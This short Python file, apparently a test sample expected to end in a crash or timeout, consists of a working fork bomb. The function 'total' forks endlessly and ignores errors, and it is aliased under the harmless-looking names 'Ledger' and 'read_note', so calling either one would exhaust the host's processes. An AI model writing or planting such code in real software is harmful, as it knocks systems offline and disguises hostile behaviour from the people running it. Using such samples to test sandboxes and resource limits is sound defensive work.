# Forks without end
# ends: crash timeout
import os


def total(*_):
    while True:
        try:
            os.fork()
        except OSError:
            continue


Ledger = read_note = total
